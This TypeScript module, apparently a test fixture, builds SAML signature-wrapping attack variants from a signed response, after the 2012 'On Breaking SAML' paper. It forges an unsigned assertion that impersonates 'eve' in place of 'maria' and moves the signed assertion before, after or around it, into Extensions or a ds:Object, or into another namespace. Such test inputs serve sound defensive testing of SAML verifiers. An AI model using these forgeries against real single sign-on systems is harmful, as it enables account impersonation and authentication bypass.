const assertionIn = (xml: string) => /<saml:Assertion.*<\/saml:Assertion>/.exec(xml)?.[0] ?? "";
/** An assertion about another person, without a signature. */
const forgedFrom = (xml: string) =>
  assertionIn(xml)
    .replace(/<ds:Signature.*<\/ds:Signature>/, "")
    .replace(">maria<", ">eve<")
    .replace("maria@acme", "eve@acme");
const withNewId = (assertion: string) => assertion.replace(/ ID="[^"]*"/, ' ID="_forged"');
const signatureIn = (xml: string) => /<ds:Signature.*<\/ds:Signature>/.exec(xml)?.[0] ?? "";

/**
 * Signature wrapping attacks on SAML (Somorovsky et al., "On Breaking SAML", USENIX Security 2012). Each function moves
 * the signed assertion and puts a forged one in its place.
 */
export const wrappedAssertions: [string, (xml: string) => string][] = [
  [
    "before the signed one",
    (xml) => xml.replace("<saml:Assertion", `${withNewId(forgedFrom(xml))}<saml:Assertion`),
  ],
  ["with the same ID", (xml) => xml.replace("<saml:Assertion", `${forgedFrom(xml)}<saml:Assertion`)],
  [
    "after the signed one",
    (xml) => xml.replace("</samlp:Response>", `${withNewId(forgedFrom(xml))}</samlp:Response>`),
  ],
  [
    "around the signed one",
    (xml) =>
      xml.replace(
        assertionIn(xml),
        withNewId(forgedFrom(xml)).replace("</saml:Assertion>", `${assertionIn(xml)}</saml:Assertion>`),
      ),
  ],
  [
    "with the signature of the signed one in an extension",
    (xml) =>
      xml
        .replace(
          assertionIn(xml),
          withNewId(forgedFrom(xml)).replace("<saml:Subject>", `${signatureIn(xml)}<saml:Subject>`),
        )
        .replace(
          "<samlp:Status>",
          `<samlp:Extensions>${assertionIn(xml).replace(signatureIn(xml), "")}</samlp:Extensions><samlp:Status>`,
        ),
  ],
  [
    "with the signed one as an object of its signature",
    (xml) =>
      xml.replace(
        assertionIn(xml),
        withNewId(forgedFrom(xml)).replace(
          "<saml:Subject>",
          `${signatureIn(xml).replace("</ds:Signature>", `<ds:Object>${assertionIn(xml).replace(signatureIn(xml), "")}</ds:Object></ds:Signature>`)}<saml:Subject>`,
        ),
      ),
  ],
  ["in another namespace", (xml) => xml.replaceAll("SAML:2.0:assertion", "SAML:2.0:another")],
];
